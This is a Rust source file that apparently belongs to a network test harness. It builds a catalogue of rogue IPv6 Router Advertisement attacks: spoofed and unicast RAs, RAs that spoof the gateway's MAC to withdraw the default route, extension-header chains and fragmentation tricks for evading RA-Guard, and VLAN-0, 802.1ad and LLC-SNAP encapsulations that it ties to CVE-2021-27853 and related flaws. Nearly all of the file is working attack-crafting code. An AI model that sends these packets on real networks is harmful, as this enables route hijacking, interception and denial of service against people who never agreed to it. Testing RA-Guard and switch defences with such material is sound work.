//! A. Router discovery.

use std::net::Ipv6Addr;

use netns_fixtures::packet::{
    BROADCAST, Extension, Fragment, Frame, Icmpv6, Ipv6, NdOption, RouterAdvertisement,
    multicast_mac,
};

use super::craft::{AD, Q, advertisement, big_filler, filler, framed, in_pieces, one, ra, tag};
use crate::attack::Attack;
use crate::scene::{ALL_NODES, Scene};

const RA: &str = "A, RFC 4861 §4.2, RFC 6104";
const CHAIN: &str = "A, RFC 7113, RFC 7112";
const PIECES: &str = "A, RFC 7113 §2.2, RFC 6980";
const TAGS: &str = "A, CVE-2021-27853, CVE-2021-27862";
/// What a mutable hop-by-hop header is followed by in RFC 8754.
const SEGMENT: [u8; 20] = [0; 20];

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = plain();
    all.extend(chained());
    all.extend(cut());
    all.extend(tagged());
    all
}

fn plain() -> Vec<Attack> {
    vec![
        Attack::new("ra-plain", RA, |s| one(framed(s, ra(s)))),
        Attack::new("ra-unicast", "A, RFC 4861 §4.2, RFC 6085", |s| {
            one(Frame::new(s.me.mac, s.towards(0), ra(s)))
        }),
        Attack::new("ra-unicast-address", RA, |s| {
            let message = Icmpv6::RouterAdvertisement(advertisement(s.me.mac));
            one(framed(s, Ipv6::new(s.me.lla, s.v1().lla, message)))
        }),
        Attack::new("ra-l2bcast", "A, RFC 6085", |s| {
            one(Frame::new(s.me.mac, BROADCAST, ra(s)))
        }),
        Attack::new("ra-to-gateway", "A, CVE-2020-10749", |s| {
            let message = Icmpv6::RouterAdvertisement(advertisement(s.me.mac));
            let packet = Ipv6::new(s.me.lla, s.gateway.lla, message);
            one(Frame::new(s.me.mac, s.gateway.mac, packet))
        }),
        Attack::new("ra-param", "A, RFC 4861 §6.3.4, RFC 4191", |s| {
            let route = NdOption::Other {
                kind: 24,
                bytes: vec![64, 0, 0, 0, 7, 8, 0x20, 1, 0xd, 0xb8, 0xb, 0xad, 0, 1],
            };
            let message = RouterAdvertisement {
                hop_limit: 1,
                lifetime_secs: 0,
                reachable_ms: 1000,
                retrans_ms: 10,
                options: vec![NdOption::Mtu(1280), route],
                ..advertisement(s.me.mac)
            };
            one(Icmpv6::router_advertisement(s.me.mac, s.me.lla, message))
        }),
        Attack::new("ra-kill-gw", "A, RFC 4861 §6.2.5", |s| {
            one(gone(s, s.me.mac))
        }),
        Attack::new("ra-spoof-mac-gw", "A, RFC 4861 §6.2.5", |s| {
            one(gone(s, s.gateway.mac))
        }),
    ]
}

/// The gateway says that it is none any more.
fn gone(s: &Scene, mac: [u8; 6]) -> Frame {
    let message = RouterAdvertisement {
        lifetime_secs: 0,
        options: vec![NdOption::SourceMac(s.gateway.mac)],
        ..advertisement(mac)
    };
    Icmpv6::router_advertisement(mac, s.gateway.lla, message)
}

fn chained() -> Vec<Attack> {
    vec![
        Attack::new("ra-hbh", CHAIN, |s| {
            one(framed(s, ra(s).extended(filler(0, 1))))
        }),
        Attack::new("ra-dst", CHAIN, |s| {
            one(framed(s, ra(s).extended(filler(60, 1))))
        }),
        Attack::new("ra-dst-x6", CHAIN, |s| {
            let packet = (0..6).fold(ra(s), |packet, _| packet.extended(filler(60, 1)));
            one(framed(s, packet))
        }),
        Attack::new("ra-bigdst", CHAIN, |s| {
            one(framed(s, ra(s).extended(big_filler(60))))
        }),
        Attack::new("ra-hbh-dst-rh", CHAIN, |s| {
            let packet = ra(s)
                .extended(filler(0, 1))
                .extended(filler(60, 1))
                .extended(Extension::routing(4, 0, &SEGMENT));
            one(framed(s, packet))
        }),
        Attack::new("ra-rh0", "A, RFC 5095", |s| {
            one(framed(
                s,
                ra(s).extended(Extension::routing(0, 0, &SEGMENT)),
            ))
        }),
        Attack::new("ra-ah", "A, RFC 4302", |s| {
            let header = Extension::Authentication { bytes: vec![0; 22] };
            one(framed(s, ra(s).extended(header)))
        }),
        Attack::new("ra-mobility", "A, RFC 6275 §6.1", |s| {
            one(framed(s, ra(s).extended(filler(135, 1))))
        }),
    ]
}

fn whole(id: u32) -> Extension {
    Extension::Fragment(Fragment {
        id,
        offset: 0,
        more: false,
    })
}

fn cut() -> Vec<Attack> {
    vec![
        Attack::new("ra-atomic-frag", "A, RFC 6946, RFC 6980", |s| {
            in_pieces(s, &ra(s), 0, &[], &[0])
        }),
        Attack::new("ra-double-frag", "A, RFC 6946, RFC 6980", |s| {
            one(framed(s, ra(s).extended(whole(1)).extended(whole(2))))
        }),
        Attack::new("ra-frag8", PIECES, |s| {
            let length = 16 + 8 + 32 + 24;
            let cuts: Vec<usize> = (8..length).step_by(8).collect();
            let order: Vec<usize> = (0..=cuts.len()).collect();
            in_pieces(s, &ra(s), 0, &cuts, &order)
        }),
        Attack::new("ra-frag-dst-split", PIECES, |s| {
            // The first piece ends inside the options header.
            in_pieces(s, &ra(s).extended(filler(60, 2)), 0, &[8], &[0, 1])
        }),
        Attack::new("ra-frag-dst-2nd", PIECES, |s| {
            // The first piece is the options header alone.
            in_pieces(s, &ra(s).extended(filler(60, 1)), 0, &[16], &[0, 1])
        }),
        Attack::new("ra-frag-reverse", PIECES, |s| {
            in_pieces(s, &ra(s).extended(filler(60, 1)), 0, &[16], &[1, 0])
        }),
        Attack::new("ra-frag-hbh-frag", PIECES, |s| {
            // To one station: a bridge that snoops takes a group's first piece for a broken report
            // (ipv6_mc_check_mld in net/ipv6/mcast_snoop.c).
            let message = Icmpv6::RouterAdvertisement(advertisement(s.me.mac));
            let packet = Ipv6::new(s.me.lla, s.v1().lla, message)
                .extended(filler(0, 1))
                .extended(filler(60, 1));
            in_pieces(s, &packet, 1, &[16], &[0, 1])
        }),
        Attack::new("ra-frag-own-gua", PIECES, |s| {
            let message = Icmpv6::RouterAdvertisement(advertisement(s.me.mac));
            in_pieces(
                s,
                &Ipv6::new(s.me.v6, s.v2().v6, message),
                0,
                &[16],
                &[0, 1],
            )
        }),
    ]
}

fn tagged() -> Vec<Attack> {
    vec![
        Attack::new(
            "ra-vlan0",
            TAGS,
            |s| one(framed(s, ra(s)).tagged(tag(Q, 0))),
        ),
        Attack::new("ra-vlan0-x2", TAGS, |s| {
            one(framed(s, ra(s)).tagged(tag(Q, 0)).tagged(tag(Q, 0)))
        }),
        Attack::new("ra-8021ad-vlan0", TAGS, |s| {
            one(framed(s, ra(s)).tagged(tag(AD, 0)))
        }),
        Attack::new("ra-8021ad-8021q", TAGS, |s| {
            one(framed(s, ra(s)).tagged(tag(AD, 0)).tagged(tag(Q, 0)))
        }),
        Attack::new("ra-vlan0-prio7", TAGS, |s| {
            one(framed(s, ra(s)).tagged(tag(Q, 0xe000)))
        }),
        Attack::new("ra-vlan0-hbh", TAGS, |s| {
            one(framed(s, ra(s).extended(filler(0, 1))).tagged(tag(Q, 0)))
        }),
        Attack::new("ra-vlan7", "A, CVE-2021-27854", |s| {
            one(framed(s, ra(s)).tagged(tag(Q, 7)))
        }),
        Attack::new("ra-llc-snap", "A, CVE-2021-27854, CVE-2021-27861", |s| {
            one(framed(s, ra(s)).in_snap())
        }),
        Attack::new("ra-vlan0-snap", "A, CVE-2021-27854", |s| {
            one(framed(s, ra(s)).tagged(tag(Q, 0)).in_snap())
        }),
        Attack::new("ra-hop64", "A, RFC 4861 §6.1.2", |s| {
            let mut packet = ra(s);
            packet.hop_limit = 64;
            one(framed(s, packet))
        }),
        Attack::new("ra-site-group", "A, RFC 4861 §4.2", |s| {
            let mut packet = ra(s);
            packet.dst = Ipv6Addr::new(0xff05, 0, 0, 0, 0, 0, 0, 2);
            one(Frame::new(
                s.me.mac,
                multicast_mac(ALL_NODES.into()),
                packet,
            ))
        }),
    ]
}
